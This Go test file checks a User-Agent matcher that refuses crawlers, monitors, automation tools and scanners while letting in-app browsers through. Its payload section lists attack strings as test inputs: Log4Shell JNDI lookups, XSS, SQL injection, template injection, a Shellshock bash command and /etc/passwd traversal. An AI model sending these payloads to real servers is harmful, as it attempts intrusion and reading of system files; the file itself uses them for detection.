package crawlers

import (
	"log/slog"
	"testing"
)

// TestGeneralRules checks each general rule (rules.go) on User-Agents of its family. The
// rules are meant to catch what no list names, so they are checked on a matcher whose
// list is empty: each must refuse with its own reason. The default matcher must refuse
// them too, by name or by rule.
func TestGeneralRules(t *testing.T) {
	m, err := newMatcher([]byte(`[{"pattern": "^no-such-agent$"}]`), Options{CacheSize: -1, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	full := newTestMatcher(t, Options{CacheSize: -1})
	f := func(reason, ua string) {
		t.Helper()
		rule, got, ok := m.Verdict([]byte(ua))
		if !ok || got != reason {
			t.Errorf("%q: rule %q reason %q (matched %v), want reason %q", ua, rule, got, ok, reason)
		}
		if _, ok := full.Match([]byte(ua)); !ok {
			t.Errorf("default matcher: %q not refused", ua)
		}
	}
	// Synthetic monitoring, uptime and load testing.
	f(ReasonMonitor, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Datadog/Synthetics")
	f(ReasonMonitor, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 RuxitSynthetic/1.0 v8675309")
	f(ReasonMonitor, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36 StatusCake_Pagespeed_Indev")
	f(ReasonMonitor, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36 NewRelicSynthetics/1.0")
	f(ReasonMonitor, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 Apache-JMeter/5.6")
	f(ReasonMonitor, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36 ThousandEyes-Dragonfly-x1")
	f(ReasonMonitor, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Site24x7")
	// Transcoders and lite proxies, Google's ad and light-page fetchers among them.
	f(ReasonTranscoder, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; baidu Transcoder;)")
	// Google's light-page fetcher puts its name in the engine comment: that rule comes first.
	f(ReasonKHTMLComment, "Mozilla/5.0 (Linux; Android 4.2.1; en-us; Nexus 5 Build/JOP40D) AppleWebKit/535.19 (KHTML, like Gecko; googleweblight) Chrome/38.0.1025.166 Mobile Safari/535.19")
	f(ReasonTranscoder, "Mozilla/5.0 (Linux; Android 9; SM-G960F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.157 Mobile Safari/537.36 googleweblight")
	f(ReasonTranscoder, "AdsBot-Google (+http://www.google.com/adsbot.html)")
	f(ReasonTranscoder, "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 (compatible; Mediapartners-Google/2.1; +http://www.google.com/bot.html)")
	// Lower-cased by a tool.
	f(ReasonLowercase, "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko) chrome/120.0.0.0 safari/537.36")
	f(ReasonLowercase, "mozilla/5.0 (iphone; cpu iphone os 17_0 like mac os x) applewebkit/605.1.15 (khtml, like gecko) version/17.0 mobile/15e148 safari/604.1")
	f(ReasonLowercase, "opera/9.80 (windows nt 6.1; wow64) presto/2.12.388 version/12.18")
	// A crawler's name inside the engine comment.
	f(ReasonKHTMLComment, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; ExampleCrawler/1.0) Chrome/120.0.0.0 Safari/537.36")
	f(ReasonKHTMLComment, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko; Sitesearch 2.1) Version/17.0 Safari/605.1.15")
	// Test automation and scraping frameworks.
	f(ReasonAutomation, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Selenium/4.16")
	f(ReasonAutomation, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Playwright/1.40.0")
	f(ReasonAutomation, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Cypress/13.6.1 Chrome/114.0.5735.289 Electron/25.8.4 Safari/537.36")
	f(ReasonAutomation, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/537.36 (KHTML, like Gecko) Sparkler/0.2.0-SNAPSHOT")
	// Security scanners' payloads.
	f(ReasonPayload, "${jndi:ldap://198.51.100.7:1389/a}")
	f(ReasonPayload, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 ${jndi:dns://example.net/x}")
	f(ReasonPayload, "Mozilla/5.0 <script>alert(1)</script>")
	f(ReasonPayload, "Mozilla/5.0 (Windows NT 10.0) ' OR 1=1 -- ")
	f(ReasonPayload, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36{{7*7}}")
	f(ReasonPayload, "() { :; }; /bin/bash -c 'id'")
	f(ReasonPayload, "Mozilla/5.0 ../../../../etc/passwd")
	f(ReasonPayload, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36' AND SLEEP(5)#")
	// Tool tokens appended to a browser User-Agent.
	f(ReasonToolToken, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Scrapy/2.11.0")
	f(ReasonToolToken, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 axios/1.6.2")
	f(ReasonToolToken, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15 reqwest/0.11")
	// A named agent keeps the list's reason even when a general word also occurs.
	if _, reason, _ := full.Verdict([]byte("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Selenium/4.16")); reason != ReasonCrawler {
		t.Errorf("Selenium, named in the list: reason %q, want %q", reason, ReasonCrawler)
	}
}

// TestInApp: in-app browsers are people; the same apps' preview fetchers are bots.
func TestInApp(t *testing.T) {
	m := newTestMatcher(t, Options{CacheSize: -1})
	person := func(app, ua string) {
		t.Helper()
		if got, ok := InApp([]byte(ua)); !ok || got != app {
			t.Errorf("InApp(%q) = %q, %v; want %q", ua, got, ok, app)
		}
		if rule, ok := m.Match([]byte(ua)); ok {
			t.Errorf("%s in-app browser refused by %q: %s", app, rule, ua)
		}
	}
	bot := func(ua string) {
		t.Helper()
		if _, ok := m.Match([]byte(ua)); !ok {
			t.Errorf("preview fetcher not refused: %s", ua)
		}
	}
	person("Facebook", "Mozilla/5.0 (Linux; Android 15; SM-A556B Build/AP3A.240905.015.A2; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/137.0.7151.89 Mobile Safari/537.36 MetaIAB Facebook")
	person("Facebook", "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook")
	person("Facebook", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.41.109;FBBV/627437311;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]")
	person("Facebook", "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/468.1.0.56.78;]")
	person("Instagram", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 334.0.4.32.98 (iPhone14,7; iOS 17_5; en_US; en; scale=3.00; 1170x2532; 612180012)")
	person("Viber", "Mozilla/5.0 (Linux; Android 11; SM-A515F Build/RP1A.200720.012; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/96.0.4664.104 Mobile Safari/537.36 Viber/11.9.5.8")
	person("Telegram", "Mozilla/5.0 (Linux; Android 13; SM-A525F Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 Telegram-Android/10.14.5 (Samsung SM-A525F; Android 13; SDK 33; AVERAGE)")
	person("VK", "Mozilla/5.0 (Linux; Android 12; M2101K6G Build/SKQ1.210908.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.113 Mobile Safari/537.36 VKAndroidApp/8.77-17991 (Android 12; SDK 31; arm64-v8a; Xiaomi M2101K6G; ru; 2400x1080)")
	person("OK", "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 OdnoklassnikiApp/24.5.0")
	person("LINE", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.5.0")
	person("WeChat", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x18003129) NetType/WIFI Language/zh_CN")
	person("Google app", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/320.0.642871066 Mobile/15E148 Safari/604.1")
	person("KakaoTalk", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 KAKAOTALK 10.6.5")
	// A document scanner's WebView: "scan" alone does not refuse an in-app browser.
	person("Android WebView", "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 CamScanner/6.62.0.2404160000")

	bot("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)")
	bot("Facebot")
	bot("TelegramBot (like TwitterBot)")
	bot("WhatsApp/2.23.20.0 A")
	bot("WhatsApp/2.2412.50 i")
	bot("Viber")
	bot("Viber/1.0")
	bot("Mozilla/5.0 (compatible; vkShare; +http://vk.com/dev/Share)")
	// In-app markers do not shield an automation framework or a payload.
	bot("Mozilla/5.0 (Linux; Android 13; SM-A525F Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 Puppeteer [FB_IAB/FB4A;FBAV/468.1.0.56.78;]")
	bot("Mozilla/5.0 (Linux; Android 13; SM-A525F Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 ${jndi:ldap://x/a} Viber/11.9.5.8")
	// Words only automated clients use still refuse an in-app User-Agent.
	bot("Mozilla/5.0 (Linux; Android 13; SM-A525F Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 ExampleBot/1.0")
	bot("Mozilla/5.0 (Linux; Android 13; SM-A525F Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 SiteCrawler")
	// Not the shape of a browser: no in-app exemption.
	if _, ok := InApp([]byte("Viber/11.9.5.8")); ok {
		t.Error("a bare Viber/ token passed for an in-app browser")
	}
	if _, ok := InApp([]byte("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) AppleWebKit/537.36 FBAV/1")); ok {
		t.Error("a compatible; agent passed for an in-app browser")
	}
}
